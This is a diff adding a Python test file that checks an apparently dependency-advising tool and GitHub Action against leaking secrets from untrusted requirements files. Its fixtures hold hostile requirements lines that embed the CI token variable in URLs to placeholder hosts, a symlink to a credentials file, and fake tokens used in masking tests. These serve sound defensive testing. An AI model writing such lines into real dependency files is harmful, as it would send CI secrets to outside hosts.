@@ -1,0 +1,158 @@
+"""Untrusted files cannot read the environment or the disk into a report.
+
+A requirements file from a pull request can name variables that the CI job holds
+(``${INPUT_GITHUB_TOKEN}``), link to a credentials file, or quote a token in a bad line. What
+aap-advise shows is the text as written, shortened and masked; it expands variables only in
+include paths and only when the reading is trusted.
+"""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from advisor.manifests import read_paths
+from advisor.model.excerpt import excerpt, mask_secrets
+from tests.githubapi import FakeGitHub
+from tests.test_github_action import WRITE, Runner
+
+ROOT = Path(__file__).resolve().parents[1]
+SECRET = "s3cr3t-Value-0123456789abcdefXYZ"
+FORMATS = ("text", "json", "markdown", "sarif")
+
+HOSTILE = """\
+ddtrace==2.3.0
+https://x.example/${AAP_TEST_SECRET}
+pkg @ https://files.example/${AAP_TEST_SECRET}/pkg-1.0.tar.gz
+flask==${AAP_TEST_SECRET}
+-r ${AAP_TEST_SECRET}.txt
+--extra-index-url https://index.example/${AAP_TEST_SECRET}/simple/
+"""
+
+
+def cli(cwd: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
+    import os
+
+    full = {**os.environ, "PYTHONPATH": str(ROOT), "AAP_TEST_SECRET": SECRET, **(env or {})}
+    return subprocess.run([sys.executable, "-m", "advisor", *args], cwd=cwd, env=full,
+                          capture_output=True, text=True, timeout=120, check=False)
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Path:
+    root = tmp_path / "repo"
+    (root / ".git").mkdir(parents=True)
+    return root
+
+
+@pytest.mark.parametrize("untrusted", [False, True], ids=["trusted", "untrusted"])
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_no_format_shows_an_expanded_variable(repo: Path, fmt: str, untrusted: bool) -> None:
+    """Every report shows the lines as written, trusted or not (the include is refused as
+    missing: its name is the secret, which must not be shown either)."""
+    (repo / "requirements.txt").write_text(HOSTILE.replace("-r ${AAP_TEST_SECRET}.txt\n", ""))
+    flags = ["--untrusted"] if untrusted else []
+    proc = cli(repo, "requirements.txt", "--offline", "--no-cache", "--format", fmt, *flags)
+    assert proc.returncode == 1, proc.stderr
+    assert SECRET not in proc.stdout + proc.stderr
+    assert "does not expand" in proc.stdout  # the finding names the variable as written
+
+
+def test_the_version_a_variable_would_give_is_unknown(repo: Path) -> None:
+    """``flask==${V}`` is flask at an unknown version with a warning, never the expansion."""
+    (repo / "requirements.txt").write_text("ddtrace==2.3.0\nflask==${AAP_TEST_SECRET}\n")
+    import os
+
+    os.environ["AAP_TEST_SECRET"] = "3.1.0"
+    try:
+        project = read_paths([str(repo / "requirements.txt")])
+    finally:
+        del os.environ["AAP_TEST_SECRET"]
+    (flask,) = project.named("flask")
+    assert flask.version is None and flask.specifier == ""
+    assert any(f.id == "unexpanded-variable" and "${AAP_TEST_SECRET}" in f.message
+               for f in project.findings)
+
+
+def test_include_paths_expand_only_when_trusted(repo: Path) -> None:
+    (repo / "prod.txt").write_text("ddtrace==2.3.0\n")
+    (repo / "requirements.txt").write_text("-r ${AAP_TEST_ENV}.txt\n")
+    trusted = cli(repo, "requirements.txt", "--offline", "--no-cache", env={"AAP_TEST_ENV": "prod"})
+    assert trusted.returncode == 1 and "upgrade ddtrace 2.3.0" in trusted.stdout, trusted.stderr
+    untrusted = cli(repo, "requirements.txt", "--offline", "--no-cache", "--untrusted",
+                    env={"AAP_TEST_ENV": "prod"})
+    assert untrusted.returncode == 2
+    assert untrusted.stderr == (
+        "aap-advise: error: requirements.txt:1: -r ${AAP_TEST_ENV}.txt: the included file does "
+        "not exist (environment variables are not expanded in untrusted files)\n"
+    )
+
+
+def test_the_action_comment_never_carries_the_token(tmp_path: Path) -> None:
+    """The attack as reported: a line naming the Action's own token variable."""
+    runner = Runner(tmp_path)
+    (runner.workspace / "requirements.txt").write_text(
+        "ddtrace==2.3.0\nhttps://x.example/${INPUT_GITHUB_TOKEN}\nflask==${INPUT_GITHUB_TOKEN}\n"
+        "--index-url https://index.example/${INPUT_GITHUB_TOKEN}/simple/\n"
+    )
+    with FakeGitHub() as api:
+        proc = runner.step(api, WRITE)
+        assert proc.returncode == 1, proc.stdout + proc.stderr
+        bodies = [c["body"] for c in api.comments]
+        assert bodies and all(WRITE not in b for b in bodies)
+        assert "does not expand" in bodies[-1]
+    report = (runner.temp / "aap-advise-report.json").read_text()
+    everything = proc.stdout + proc.stderr + runner.summary.read_text() + report
+    assert [line for line in everything.splitlines() if WRITE in line] == [f"::add-mask::{WRITE}"]
+
+
+def test_a_named_file_that_links_out_of_the_repository_is_refused(repo: Path, tmp_path: Path) -> None:
+    secret = tmp_path / "git-credentials"
+    secret.write_text(f"https://user:{SECRET}@github.com\n")
+    (repo / "requirements.txt").symlink_to(secret)
+    proc = cli(repo, "requirements.txt", "--offline", "--no-cache")
+    assert proc.returncode == 2 and SECRET not in proc.stdout + proc.stderr
+    assert proc.stderr.startswith("aap-advise: error: requirements.txt: links to ")
+    assert "--allow-outside" in proc.stderr
+    allowed = cli(repo, "requirements.txt", "--offline", "--no-cache", "--allow-outside",
+                  "--format", "json")
+    assert SECRET not in allowed.stdout + allowed.stderr  # read, but quoted masked
+
+
+def test_a_named_file_inside_the_repository_through_a_link_is_read(repo: Path) -> None:
+    (repo / "deps").mkdir()
+    (repo / "deps" / "real.txt").write_text("ddtrace==2.3.0\n")
+    (repo / "requirements.txt").symlink_to(repo / "deps" / "real.txt")
+    assert read_paths([str(repo / "requirements.txt")]).named("ddtrace")
+
+
+@pytest.mark.parametrize(
+    ("line", "hidden"),
+    [
+        (f"https://user:p@ss{SECRET}@github.com/x", SECRET),
+        ("git+https://ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/o/r", "ghp_abcdef"),
+        ("--foo TOKEN=hunter2hunter2", "hunter2"),
+        (f"pkg==1.0 --hash=sha256:{'ab12' * 16}", "ab12ab12ab12ab12"),
+        ("AKIAABCDEFGHIJKLMNOP is a key", "AKIAABCDEFGHIJKLMNOP"),
+    ],
+)
+def test_an_invalid_line_is_quoted_masked(repo: Path, line: str, hidden: str) -> None:
+    (repo / "requirements.txt").write_text(f"ddtrace==2.3.0\n{line} !!!\n")
+    proc = cli(repo, "requirements.txt", "--offline", "--no-cache")
+    assert hidden not in proc.stdout + proc.stderr, proc.stderr
+    assert mask_secrets(line).count("***") >= 1
+
+
+def test_a_long_line_is_quoted_short(repo: Path) -> None:
+    (repo / "requirements.txt").write_text("ddtrace==2.3.0\n" + "x" * 100_000 + " !!!\n")
+    proc = cli(repo, "requirements.txt", "--offline", "--no-cache")
+    assert proc.returncode == 2 and len(proc.stderr) < 400, proc.stderr
+
+
+def test_excerpt_keeps_short_plain_text() -> None:
+    assert excerpt("flask>=2.0 ; python_version < '3.9'") == "flask>=2.0 ; python_version < '3.9'"
+    assert excerpt("a" * 200).endswith("...") and len(excerpt("a" * 200)) == 80
+    assert mask_secrets("https://u:p@ss@host/simple") == "https://***@host/simple"
